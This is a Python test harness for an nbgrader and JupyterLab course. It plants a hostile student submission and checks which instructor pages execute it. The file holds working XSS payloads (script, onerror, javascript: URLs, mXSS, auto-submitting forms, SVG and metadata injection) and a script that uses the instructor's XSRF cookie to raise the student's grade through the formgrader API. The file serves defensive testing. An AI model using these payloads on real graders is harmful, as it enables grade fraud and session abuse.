"""Hostile content a student can hand in, and every page where an instructor could meet it.

Used by tests/test_payloads.py; also a command that prints the table for another checkout
of the course (say, before a change), with that checkout's own environment:

    .venv/bin/python tests/payloads.py --code /path/to/checkout   # its .venv runs nbgrader and Lab

Each payload reports that it ran by a request to a listener the caller owns (an HTTP server
on 127.0.0.1), to ``/ran/<payload>``: a script fetches it, loads it as an image and sends
a beacon; a form, a frame, an object or a refresh loads it by itself. A script also marks the
page it ran in (``data-payload-<payload>`` on its root element, and on its top window's if
it can reach it), which the caller reads in every frame: that catches a script whose requests
a page's policy blocked. Every script payload also attacks, as the student of the issue did:
from any page of the instructor's server it reaches, it raises its own grade through the
formgrader's API (extra credit 100), so a payload that ran there changes the gradebook.
"""
import argparse
import base64
import http.server
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from grading.run import gradebook as gradebooks
from coursetools.servers import free_port  # noqa: E402
from support.browser import CHROMIUM, CHROMIUM_ARGS, LabServer  # noqa: E402
from support import ASSIGNMENT, NOTEBOOK, ROOT, nbgrader_env

STUDENT = "mallory"
# payload -> where it is, in the student's submission (all in one notebook, and two files)
PAYLOADS = {
    "html-script": "an HTML output with <script>",
    "img-onerror": "an HTML output <img src=x onerror=...>",
    "svg-onload": "an HTML output <svg onload=...>",
    "app-javascript": "an application/javascript output",
    "markdown-cell-html": "raw HTML with an event handler in a markdown cell",
    "handed-in-html": "an .html page handed in beside the notebook",
    "handed-in-svg": "an .svg image with a script handed in beside the notebook",
    "js-link": "<a href=\"javascript:...\"> in a markdown cell (clicked)",
    "iframe-srcdoc": "an HTML output <iframe srcdoc=\"<script>...\">",
    "object": "an HTML output <object data=...> and <embed src=...>",
    "meta-refresh": "an HTML output <meta http-equiv=refresh>",
    "form-autosubmit": "an HTML output with a <form> its own handler submits",
    "svg-output-script": "an image/svg+xml output with <script> and onload",
    "markdown-output-html": "HTML with an event handler inside a text/markdown output",
    "widget-view": "a widget view output, with widget state carrying HTML",
    "attachment": "a markdown cell's attachments: an SVG with a script, an HTML page (link clicked)",
    "metadata-grade-id": "a grade_id carrying HTML (a cell nbgrader metadata the rebuild would drop)",
    "metadata-tags": "cell tags carrying HTML",
    "details-ontoggle": "an HTML output <details open ontoggle=...>",
    "style-import": "an HTML output <style>@import and <link rel=stylesheet> (loads, no script)",
}
# More of the usual vectors (an HTML output each, one after the other), beyond the list:
# the defence is an allow-list and a policy, not a list of these.
VECTORS = {
    "vector-body-onload": '<body onload="{js}">',
    "vector-input-autofocus": '<input autofocus onfocus="{js}">',
    "vector-select-autofocus": '<select autofocus onfocus="{js}"><option>s</option></select>',
    "vector-video-source": '<video><source onerror="{js}"></video>',
    "vector-audio": '<audio src="x" onerror="{js}"></audio>',
    "vector-svg-animate": '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    "vector-marquee": '<marquee onstart="{js}">m</marquee>',
    "vector-iframe-js-url": '<iframe src="javascript:{js}"></iframe>',
    "vector-embed-js-url": '<embed src="javascript:{js}">',
    "vector-mxss-math": '<math><mtext><table><mglyph><style><img src="x" onerror="{js}"></style></mglyph></table></mtext></math>',
    "vector-noscript": '<noscript><p title="</noscript><img src=x onerror="{js}">"></noscript>',
    "vector-svg-link": '<svg width="80" height="20"><a href="javascript:{js}" title="payload-vector-svg-link"><text y="15">svg link</text></a></svg>',
    "vector-obfuscated-link": '<a href=" jav&#x09;ascript:{js}" title="payload-vector-obfuscated-link">obfuscated link</a>',
    "vector-base-href": '<base href="{listener}/ran/vector-base-href/"><img src="pixel.png" alt="relative">',
}
REFRESH_SECONDS = 3  # the refresh waits until the links of its page have been clicked


def script(listener, payload):
    """JavaScript that reports ``payload`` to ``listener`` and raises the student's grade through
    the formgrader's API of whatever instructor's server it runs in. Only single quotes, no
    ``<`` or ``>``: it goes inside attributes, markdown and ``javascript:`` URLs as it is."""
    return (
        "(function(){var id='%(p)s',u='%(l)s/ran/'+id;"
        "try{document.documentElement.setAttribute('data-payload-'+id,'ran')}catch(e){}"
        "try{top.document.documentElement.setAttribute('data-payload-'+id,'ran')}catch(e){}"
        "try{new Image().src=u+'?via=img'}catch(e){}"
        "try{fetch(u+'?via=fetch',{mode:'no-cors'})}catch(e){}"
        "try{navigator.sendBeacon(u+'?via=beacon')}catch(e){}"
        "try{var w=[location.href,document.baseURI];try{w.push(top.location.href)}catch(e){}"
        "var m=w.join(' ').match(/(https?:[\\/][\\/][^\\/ ]+([\\/]user[\\/][^\\/ ]+)?)[\\/](formgrader|lab|files|tree|notebooks|nbconvert|view)[\\/]/);"
        "if(m){var b=m[1],x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'',"
        "H={'X-XSRFToken':decodeURIComponent(x),'Content-Type':'application/json'};"
        "fetch(b+'/formgrader/api/submitted_notebooks/%(a)s/%(a)s').then(function(r){return r.json()})"
        ".then(function(s){s.forEach(function(n){if(n.student=='%(s)s'){"
        "fetch(b+'/formgrader/api/grades?submission_id='+n.id).then(function(r){return r.json()})"
        ".then(function(g){fetch(b+'/formgrader/api/grade/'+g[0].id,{method:'PUT',headers:H,"
        "body:JSON.stringify({manual_score:g[0].auto_score,extra_credit:100})})"
        ".then(function(r){new Image().src=u+'?via=grade-'+r.status})})}})})}}catch(e){}"
        "})()" % {"p": payload, "l": listener, "a": ASSIGNMENT, "s": STUDENT})


def handler(listener, payload):
    """An event handler attribute's value: the script."""
    return script(listener, payload)


def svg(listener, payload):
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="%s">'
            '<script>%s</script><rect width="40" height="20" fill="#c33"/></svg>'
            % (handler(listener, payload + ""), script(listener, payload)))


def html_outputs(listener):
    """payload -> the text/html a cell displays."""
    h = lambda p: handler(listener, p)  # noqa: E731
    return {
        "html-script": f"<b>script</b><script>{script(listener, 'html-script')}</script>",
        "img-onerror": f'<img src="x" onerror="{h("img-onerror")}">',
        "svg-onload": f'<svg onload="{h("svg-onload")}"></svg>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{script(listener, "iframe-srcdoc")}</script>"></iframe>',
        "object": (f'<object data="{listener}/ran/object" type="text/html"></object>'
                   f'<embed src="{listener}/ran/object?via=embed" type="text/html">'),
        "meta-refresh": f'<meta http-equiv="refresh" content="{REFRESH_SECONDS};url={listener}/ran/meta-refresh">',
        "form-autosubmit": (f'<iframe name="payload-sink" width="1" height="1"></iframe>'
                            f'<form id="payload-form" action="{listener}/ran/form-autosubmit" '
                            'method="post" target="payload-sink"><input name="grade" value="100"></form>'
                            '<img src="x" onerror="document.getElementById(\'payload-form\').submit()">'),
        "details-ontoggle": f'<details open ontoggle="{h("details-ontoggle")}">d</details>',
        "style-import": (f'<style>@import url({listener}/ran/style-import?via=import);</style>'
                         f'<link rel="stylesheet" href="{listener}/ran/style-import?via=link">'),
        **{name: vector.format(js=handler(listener, name), listener=listener)
           for name, vector in VECTORS.items()},
    }


# What honest students show, which must still show: a pandas-style table, a figure, a traceback.
HONEST_TABLE = ('<div><table border="1" class="dataframe"><thead><tr style="text-align: right;">'
                '<th></th><th>offset</th><th>weight</th></tr></thead><tbody><tr><th>0</th>'
                '<td>12</td><td>0.25</td></tr><tr><th>1</th><td>40</td><td>0.75</td></tr>'
                '</tbody></table></div>')


def payload_code(listener):
    """The code cell the student adds: it displays every output payload, and honest outputs."""
    outputs = html_outputs(listener)
    lines = ["from IPython.display import display, HTML, Javascript, Markdown",
             "import matplotlib.pyplot as plt"]
    for payload, html in outputs.items():
        lines.append(f"display(HTML({html!r}))  # {payload}")
    lines += [
        f"display(Javascript({script(listener, 'app-javascript')!r}))",
        f"display({{'image/svg+xml': {svg(listener, 'svg-output-script')!r}, 'text/plain': 'an svg'}}, raw=True)",
        f"display(Markdown({('Markdown output <img src=x onerror=' + chr(34) + handler(listener, 'markdown-output-html') + chr(34) + '>')!r}))",
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'payload-widget', "
        "'version_major': 2, 'version_minor': 0}, 'text/plain': 'a widget'}, raw=True)",
        f"display(HTML({HONEST_TABLE!r}))",
        "plt.figure(figsize=(2, 1)); plt.plot([0, 1], [1, 0]); plt.title('honest figure'); plt.show()",
    ]
    return "\n".join(lines)


def markdown_cell(listener):
    cell = new_markdown_cell(
        "Payload markdown: <img src=\"x\" onerror=\"%s\"> and "
        "<a href=\"javascript:%s\" title=\"payload-js-link\">a javascript: link</a>.\n\n"
        "Honest formula: $q(t) \\propto a_t \\, p(X \\mid t, \\theta)$\n\n"
        "![attached svg](attachment:evil.svg) [attached page](attachment:evil.html \"payload-attachment-link\")"
        % (handler(listener, "markdown-cell-html"), script(listener, "js-link")))
    cell.attachments = {
        "evil.svg": {"image/svg+xml": base64.b64encode(svg(listener, "attachment").encode()).decode()},
        "evil.html": {"text/html": base64.b64encode(
            f"<script>{script(listener, 'attachment')}</script>".encode()).decode()},
    }
    return cell


def hostile_submission(reference_nb, listener):
    """The reference solution, and after its ``show`` cell the student's hostile cells: the
    payload outputs (code), a markdown cell, and a cell that fails (an honest traceback)."""
    nb = nbformat.from_dict(json.loads(json.dumps(reference_nb)))
    index = next(i for i, c in enumerate(nb.cells)
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "show")
    nb.cells[index + 1:index + 1] = [new_code_cell(payload_code(listener)), markdown_cell(listener),
                                     new_code_cell("1 / 0  # an honest mistake: a traceback")]
    return nb


def handed_in(listener):
    """Files the student hands in beside the notebook."""
    return {"evil.html": f"<html><body>handed in<script>{script(listener, 'handed-in-html')}</script></body></html>",
            "evil.svg": svg(listener, "handed-in-svg")}


def craft_autograded(path, listener):
    """Add to an autograded notebook what a grading path without the course's rebuild would keep
    (the rebuild drops nbgrader fields and tags of cells a student adds, and the notebook's
    metadata): a graded cell whose grade_id and tags carry HTML, and widget state with HTML.
    The formgrader shows it; the feedback is made before (nbgrader's feedback stops at a graded
    cell its gradebook does not know), so tests/test_sanitize.py checks the feedback's side."""
    nb = nbformat.read(str(path), as_version=4)
    cell = new_code_cell("print('a cell with hostile metadata')")
    cell.metadata["nbgrader"] = {
        "grade": True, "solution": False, "locked": False, "points": 0, "schema_version": 3,
        "grade_id": 'x"><img src="x" onerror="%s">' % handler(listener, "metadata-grade-id")}
    # a tag may not hold a comma (nbformat's schema): a shorter script
    cell.metadata["tags"] = ['"><img src="x" onerror="new Image().src=\'%s/ran/metadata-tags\';'
                             'document.documentElement.dataset.payloadMetadataTags=1">' % listener]
    if nb.nbformat_minor < 5:
        del cell["id"]  # cell ids came with nbformat 4.5
    nb.cells.append(cell)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"payload-widget": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"value": '<img src="x" onerror="%s">' % handler(listener, "widget-view")}}}}}
    nbformat.write(nb, str(path))


class Listener:
    """An HTTP server on 127.0.0.1 that records every request to ``/ran/<payload>`` and serves
    ``pages`` (path -> HTML) for the raw pages of the check that the suite can fail."""

    def __init__(self):
        self.hits, self.pages = [], {}
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self):
                path = self.path.split("?")[0]
                if path.startswith("/ran/"):
                    listener.hits.append((time.monotonic(), path[len("/ran/"):].split("/")[0], self.path))
                body = listener.pages.get(path, "ok").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if path in listener.pages else "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def ran_since(self, start):
        return {payload for t, payload, _ in self.hits[start:]}

    def close(self):
        self.server.shutdown()
        self.server.server_close()


PROBE_JS = """() => ({
    markers: [...document.documentElement.attributes].map(a => a.name)
        .filter(n => n.startsWith('data-payload-')).map(n => n.slice('data-payload-'.length)),
    refresh: [...document.querySelectorAll('meta[http-equiv]')]
        .some(m => m.httpEquiv.toLowerCase() === 'refresh'),
    honest: {
        figures: [...document.querySelectorAll('img')].filter(
            i => i.src.startsWith('data:image/png') && i.naturalWidth > 0).length,
        formulas: document.querySelectorAll('math').length,
        table_cells: document.querySelectorAll('table.dataframe td').length,
        traceback: !!document.body && document.body.innerText.includes('ZeroDivisionError'),
        grading_ui: !!(window.formgrader && window.formgrader.loaded),
        list_rows: [...document.querySelectorAll('#main-table tr')]
            .filter(r => !r.innerText.includes('Loading, please wait')).length,
    },
})"""


def probe(page, unreadable):
    """What each frame shows: {frame: {markers, refresh, honest}}. A frame that runs no script
    at all (sandboxed without scripts) cannot be read: Playwright's own scripts cannot run
    there either (an evaluate would wait for ever). It is left out, and added to
    ``unreadable``, so that it is tried only once."""
    seen = {}
    for frame in page.frames:
        if frame in unreadable:
            continue
        try:  # a busy page (JupyterLab rendering a notebook) may take a few seconds to answer
            timeout = 20_000 if frame == page.main_frame else 1500
            seen[frame] = frame.wait_for_function(PROBE_JS, timeout=timeout).json_value()
        except Exception:  # no script in it, or it navigated or closed meanwhile
            unreadable.add(frame)
    return seen


def markers(page, unreadable):
    return {m for frame in probe(page, unreadable).values() for m in frame["markers"]}


def honest(seen):
    """The honest content the page shows, over its frames (the most any frame shows)."""
    shown = {}
    for frame in seen.values():
        for key, value in frame["honest"].items():
            shown[key] = max(shown.get(key, value), value)
    return shown


def observe(page, listener, open_page, settle=1.0):
    """Open a page (``open_page(page)``), let it settle, click every payload link in it, wait
    for a refresh if it has one; return (payloads that ran, how it opened, what honest content
    it showed: ``honest``)."""
    start, policies = len(listener.hits), []
    page.on("response", lambda response: policies.append(response.headers.get("content-security-policy", ""))
            if response.request.is_navigation_request() and response.frame == page.main_frame else None)
    try:
        shown = open_page(page) or ""
    except Exception as error:  # a page that does not load is recorded, not fatal
        shown = f"did not open: {str(error).splitlines()[0][:120]}"
    page.wait_for_timeout(int(settle * 1000))
    # a page its policy sandboxes without scripts: none of its frames can run one (nor be read)
    scriptless = bool(policies) and re.search(r"(^|;)\s*sandbox\b(?![^;]*allow-scripts)", policies[-1])
    unreadable = set(page.frames) if scriptless else set()  # (its frames' frames included)
    seen = probe(page, unreadable)
    ran, shows = {m for frame in seen.values() for m in frame["markers"]}, honest(seen)
    if any(frame["refresh"] for frame in seen.values()):  # let it refresh first: a click on a
        page.wait_for_timeout((REFRESH_SECONDS + 2) * 1000)  # link would cancel the refresh
        ran |= markers(page, unreadable)
        try:
            open_page(page)
            page.wait_for_timeout(int(settle * 1000))
        except Exception:
            pass
        seen = probe(page, unreadable)
    for frame in seen:  # as a click would, wherever the link is on the page
        try:
            links = frame.locator('a[title^="payload-"]')
            for i in range(links.count()):
                links.nth(i).dispatch_event("click", timeout=2000)
                page.wait_for_timeout(300)
        except Exception:
            pass
    page.wait_for_timeout(500)
    return ran | markers(page, unreadable) | listener.ran_since(start), shown, shows


def goto(url, referer):
    """Open ``url`` as a link on ``referer`` would (Jupyter's file handlers want a same-origin
    referer, as a click in JupyterLab sends)."""
    def open_page(page):
        response = page.goto(url, wait_until="load", timeout=60_000, referer=referer)
        return f"HTTP {response.status}" if response else ""
    return open_page


def lab_html_viewer(url, trust):
    """JupyterLab's HTML viewer on a file, with "Trust HTML" pressed if ``trust``."""
    def open_page(page):
        page.goto(url, wait_until="load", timeout=60_000)
        viewer = page.locator(".jp-HTMLViewer")
        viewer.locator("iframe").wait_for(timeout=60_000)
        if trust:  # the button toggles: "Trust HTML", then "Distrust HTML"
            page.wait_for_timeout(1000)  # a press while the viewer still renders is lost
            page.locator('jp-button[aria-label="Trust HTML"]').click()
            page.locator('jp-button[aria-label="Distrust HTML"]').wait_for(timeout=30_000)
            page.wait_for_function("""() => (document.querySelector('.jp-HTMLViewer iframe')
                .getAttribute('sandbox') || '').includes('allow-scripts')""", timeout=30_000)
            page.wait_for_timeout(500)
        return "frame sandbox: " + (viewer.locator("iframe").get_attribute("sandbox") or "")
    return open_page


def lab_notebook(url):
    def open_page(page):
        page.goto(url, wait_until="load", timeout=60_000)
        page.locator(".jp-NotebookPanel .jp-Cell").first.wait_for(timeout=60_000)
        try:  # its outputs render after its cells, slowly on a loaded machine
            page.locator(".jp-NotebookPanel .jp-RenderedImage img").first.wait_for(timeout=60_000)
        except Exception:  # none shown: the probe says so, and the test that wants them fails
            pass
        return "opened in JupyterLab"
    return open_page


def lab_formgrader(lab_url, then_url):
    """JupyterLab's Nbgrader > Formgrader, then the frame navigated to ``then_url``."""
    def open_page(page):
        page.goto(lab_url, wait_until="load", timeout=60_000)
        page.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader").first.click()
        page.locator(".lm-Menu-content .lm-Menu-itemLabel").get_by_text("Formgrader", exact=True).click()
        frame_element = page.locator("iframe[src*='formgrader']").first
        frame_element.wait_for(timeout=60_000)
        frame = frame_element.element_handle().content_frame()
        frame.wait_for_load_state("load")
        frame.goto(then_url, wait_until="load", timeout=60_000)
        return "the formgrader framed in JupyterLab"
    return open_page


def pages(server, submission_id):
    """(name, how to open it): every page an instructor reaches with the student's work."""
    u, s, a = server.url, STUDENT, ASSIGNMENT
    fg = f"{u}/formgrader"
    lab = f"{u}/lab"
    workspaces = iter(range(100))

    def in_lab(path=""):  # a workspace of its own for each page: no tab of another page open
        return f"{u}/lab/workspaces/payloads-{next(workspaces)}" + (f"/tree/{path}" if path else "")

    def link(url):
        return goto(url, referer=lab)
    return [
        ("formgrader: manage assignments", link(f"{fg}/manage_assignments")),
        ("formgrader: manage submissions", link(f"{fg}/manage_submissions/{a}")),
        ("formgrader: manual grading, assignments", link(f"{fg}/gradebook")),
        ("formgrader: manual grading, notebooks", link(f"{fg}/gradebook/{a}")),
        ("formgrader: manual grading, submissions", link(f"{fg}/gradebook/{a}/{a}")),
        ("formgrader: students", link(f"{fg}/manage_students")),
        ("formgrader: the student", link(f"{fg}/manage_students/{s}")),
        ("formgrader: the student's assignment", link(f"{fg}/manage_students/{s}/{a}")),
        ("formgrader: submission view (manual grading)", link(f"{fg}/submissions/{submission_id}/")),
        ("JupyterLab's Nbgrader > Formgrader: submission view",
         lab_formgrader(in_lab(), f"{fg}/submissions/{submission_id}/")),
        ("formgrader: handed-in evil.html", link(f"{fg}/submissions/{submission_id}/evil.html")),
        ("formgrader: handed-in evil.svg", link(f"{fg}/submissions/{submission_id}/evil.svg")),
        ("/files/: handed-in evil.html in submitted/", link(f"{u}/files/submitted/{s}/{a}/evil.html")),
        ("/files/: handed-in evil.html in autograded/", link(f"{u}/files/autograded/{s}/{a}/evil.html")),
        ("JupyterLab: handed-in evil.html in submitted/ (as opened)",
         lab_html_viewer(in_lab(f"submitted/{s}/{a}/evil.html"), trust=False)),
        ("/files/: feedback", link(f"{u}/files/feedback/{s}/{a}/{a}.html")),
        ("JupyterLab: feedback, Trust HTML pressed",
         lab_html_viewer(in_lab(f"feedback/{s}/{a}/{a}.html"), trust=True)),
        ("JupyterLab: the autograded notebook (the formgrader's live link)",
         lab_notebook(in_lab(f"autograded/{s}/{a}/{NOTEBOOK}"))),
        ("/nbconvert/: the autograded notebook as HTML",
         link(f"{u}/nbconvert/html/autograded/{s}/{a}/{NOTEBOOK}?download=false")),
    ]


def raw_pages(course, listener):
    """The check that the suite can fail: the autograded notebook rendered by plain nbconvert
    (its lab template, unsanitized, none of the course's configuration) and the handed-in
    page as it was submitted, served by the listener (another origin). Returns their pages."""
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config
    notebook = nbformat.read(str(course / "autograded" / STUDENT / ASSIGNMENT / NOTEBOOK), as_version=4)
    listener.pages["/raw/notebook.html"], _ = HTMLExporter(config=Config(), template_name="lab") \
        .from_notebook_node(notebook)
    listener.pages["/raw/evil.html"] = (course / "submitted" / STUDENT / ASSIGNMENT / "evil.html").read_text()
    return [("raw nbconvert rendering of the autograded notebook", goto(f"{listener.url}/raw/notebook.html", None)),
            ("the handed-in page as submitted", goto(f"{listener.url}/raw/evil.html", None))]


def grades_of(course):
    """(grade name, auto, manual, extra credit) of every grade in the course's gradebook."""
    from nbgrader.api import Gradebook
    with Gradebook(gradebooks.url(course)) as gb:
        nb = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT)
        return sorted((g.name, g.auto_score, g.manual_score, g.extra_credit) for g in nb.grades), nb.id


def run(python, cmd, course, timeout=900):
    proc = subprocess.run([str(python), *cmd], cwd=course, env=nbgrader_env(), capture_output=True,
                          text=True, timeout=timeout)
    if proc.returncode != 0:
        raise AssertionError(f"{' '.join(cmd)} failed ({proc.returncode}):\n{proc.stdout[-3000:]}\n"
                             f"{proc.stderr[-3000:]}")
    return proc


def prepare_course(code, python, work, listener):
    """A course from the checkout ``code`` in ``work``: released, the student's hostile submission
    graded by ``python -m grading.run``, feedback generated. Returns (course, summary)."""
    course = pathlib.Path(work) / "course"
    course.mkdir(parents=True)
    shutil.copy(code / "nbgrader_config.py", course / "nbgrader_config.py")
    shutil.copytree(code / "grading", course / "grading", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "source", course / "source",  # the data: generated, not in a checkout
                    ignore=shutil.ignore_patterns(".ipynb_checkpoints", "__pycache__"))
    if (code / "source").is_dir():
        shutil.copy(code / "source" / ASSIGNMENT / NOTEBOOK, course / "source" / ASSIGNMENT / NOTEBOOK)
    run(python, ["-m", "nbgrader", "generate_assignment", ASSIGNMENT, "--force", "--log-level=WARN"], course)
    folder = course / "submitted" / STUDENT / ASSIGNMENT
    folder.mkdir(parents=True)
    reference = nbformat.read(str(code / "demo" / "submitted" / "reference" / ASSIGNMENT / NOTEBOOK), as_version=4)
    nbformat.write(hostile_submission(reference, listener.url), str(folder / NOTEBOOK))
    for name, text in handed_in(listener.url).items():
        (folder / name).write_text(text)
    summary = run(python, ["-m", "grading.run.parallel", ASSIGNMENT, "--workers", "1"], course).stdout
    run(python, ["-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--force", "--log-level=WARN"], course)
    # after the feedback: nbgrader cannot make feedback with a graded cell its gradebook lacks
    craft_autograded(course / "autograded" / STUDENT / ASSIGNMENT / NOTEBOOK, listener.url)
    return course, summary


def visit(playwright, server, course, listener, profile, raw=()):
    """Open every page as the instructor (then the ``raw`` pages); return ({page: (ran, how it
    opened, honest content)}, the gradebook before, after)."""
    before, submission_id = grades_of(course)
    context = playwright.chromium.launch_persistent_context(
        str(profile), executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS,
        viewport={"width": 1300, "height": 900})
    try:
        login = context.new_page()
        login.goto(f"{server.url}/lab?token={server.token}")  # log in (the token sets the cookie)
        login.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader").first.wait_for(timeout=120_000)
        login.close()
        table = {}
        for name, open_page in [*pages(server, submission_id), *raw]:
            page = context.new_page()  # a tab of its own: nothing of the page before is left
            page.set_default_timeout(30_000)
            table[name] = observe(page, listener, open_page)
            page.close()
    finally:
        context.close()
    time.sleep(1)  # a request still in flight from the last page
    after, _ = grades_of(course)
    return table, before, after


def describe(shows):
    """The honest content a page showed, in a few words."""
    parts = [f"{shows[k]} {k.replace('_', ' ')}" for k in ("figures", "formulas", "table_cells", "list_rows")
             if shows.get(k)]
    parts += [k.replace("_", " ") for k in ("traceback", "grading_ui") if shows.get(k)]
    return ", ".join(parts) or "-"


def format_table(table):
    """The table as markdown: page, how it opened, honest content shown, payloads that ran."""
    lines = ["| page | opened | honest content shown | payloads that ran |", "| --- | --- | --- | --- |"]
    for name, (ran, shown, shows) in table.items():
        lines.append(f"| {name} | {shown} | {describe(shows)} | {', '.join(sorted(ran)) or 'none'} |")
    return "\n".join(lines)


def main(argv=None):
    parser = argparse.ArgumentParser(description="the payload table for a checkout of the course")
    parser.add_argument("--code", type=pathlib.Path, default=ROOT,
                        help="the checkout whose code grades and serves (default: this one)")
    parser.add_argument("--python", type=pathlib.Path, default=None,
                        help="its interpreter (default: CODE/.venv/bin/python)")
    parser.add_argument("--keep", action="store_true", help="keep the course and the server's log")
    args = parser.parse_args(argv)
    python = args.python or args.code / ".venv" / "bin" / "python"
    from playwright.sync_api import sync_playwright
    listener = Listener()
    work = pathlib.Path(tempfile.mkdtemp(prefix="em-prankster-payloads-"))
    try:
        start = time.perf_counter()
        course, summary = prepare_course(args.code.resolve(), python, work, listener)
        listener.hits.clear()
        with LabServer(course, work / "jupyter", python=python) as server, sync_playwright() as pw:
            table, before, after = visit(pw, server, course, listener, work / "profile")
        print(format_table(table))
        print(f"\ngradebook {'unchanged' if before == after else 'CHANGED'}: extra credit "
              f"{sum(g[3] or 0 for g in before)} -> {sum(g[3] or 0 for g in after)}")
        print("summary: " + next((line for line in summary.splitlines() if STUDENT in line), ""))
        print(f"{time.perf_counter() - start:.0f} s")
    finally:
        listener.close()
        if args.keep:
            print(f"kept {work}")
        else:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    os.environ.setdefault("MPLBACKEND", "Agg")
    main()
